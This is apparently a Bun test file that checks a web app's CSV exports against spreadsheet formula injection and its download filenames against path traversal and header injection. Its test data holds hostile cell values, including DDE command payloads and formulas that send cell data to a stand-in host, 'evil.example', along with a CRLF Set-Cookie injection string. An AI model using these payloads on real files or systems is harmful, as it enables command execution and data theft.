import { afterAll, beforeAll, expect, setDefaultTimeout, test } from 'bun:test'
import Papa from 'papaparse'
import { rewriteCsv } from '../../src/shared/exports/file/rewrite-csv'
import { openApp, type OpenApp } from '../support/open-app'
import { csv } from '../support/uploads'

// T14: names from people and files in exports for spreadsheets, which may run them as formulas.
setDefaultTimeout(60_000)

const NAMES = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '＝1+1', '＋1', '－x', '＠x', '=cmd|\'/C calc\'!A0', '=HYPERLINK("http://evil.example?d="&A1)',
  '-2+3+cmd|\' /C calc\'!A0', 'a;=1+1', 'a\t=1+1', 'say ""="', '"=1+1"', "'=1+1", '=1+1,=2+2', '+44 20 7946 0958', '%0a=1', '=IMPORTXML("http://evil.example")',
] // prettier-ignore
const TRIGGER = /^[=+\-@\t\r\n＝＋－＠]/u
const NUMBER = /^[+-]?[\d.,]+%?$/

let app: OpenApp
beforeAll(async () => {
  app = await openApp()
  for (const name of NAMES) {
    const line = name.replaceAll('\t', ' ')
    const { id } = await app.createClient(line, { industry: line, website: name })
    const rows = NAMES.map((text, i) => `"${text.replaceAll('"', '""')}",${10 + i},100,5`).join('\n')
    const file = csv(
      `Campaign name,Amount spent (USD),Impressions,Link clicks\n${rows}\n`,
      `${line.replaceAll('/', '')}.csv`,
    )
    expect((await app.analyze({ file, type: 'campaign', clientId: id })).status).toBe(200)
  }
})
afterAll(() => app.close())

/** Cells of the text as a spreadsheet splits it at `delimiter`. */
function cellsOf(text: string, delimiter: string): string[] {
  return Papa.parse<string[]>(text.replace('\uFEFF', ''), { delimiter }).data.flat()
}

test.each(['clients', 'reports'])(
  'the export of %s holds no cell that runs, wherever it is opened',
  async (name) => {
    const { text, status } = await app.send('GET', `/api/exports/${name}.csv`)
    expect([status, text.split('\r\n').length - 2]).toEqual([200, NAMES.length])
    // Proves that the export contains the hostile names.
    expect(text).toContain('calc')
    for (const delimiter of [',', ';', '\t']) {
      const running = cellsOf(text, delimiter).filter((cell) => TRIGGER.test(cell) && !NUMBER.test(cell))
      expect(running).toEqual([])
    }
  },
)

test('an export that is only rewritten runs no more than the first one did', () => {
  const rows = NAMES.map((text) => `"${text.replaceAll('"', '""')}",1,2`).join('\n')
  const written = rewriteCsv(
    new TextEncoder().encode(`Campaign name,Amount spent (USD),Impressions\n${rows}\n`),
  )
  expect(cellsOf(written, ',').filter((cell) => TRIGGER.test(cell) && !NUMBER.test(cell))).toEqual([])
})

test('the name of a download holds nothing that anyone typed', async () => {
  for (const path of ['/api/exports/clients.csv', '/api/exports/reports.csv', '/api/backup']) {
    const { headers } = await app.send('GET', `${path}?name=../../x&download=a%0d%0aSet-Cookie:x=1`)
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="spendlens-[a-z\d-]+\.(csv|db)"$/,
    )
    expect(headers.get('set-cookie')).toBeNull()
  }
})
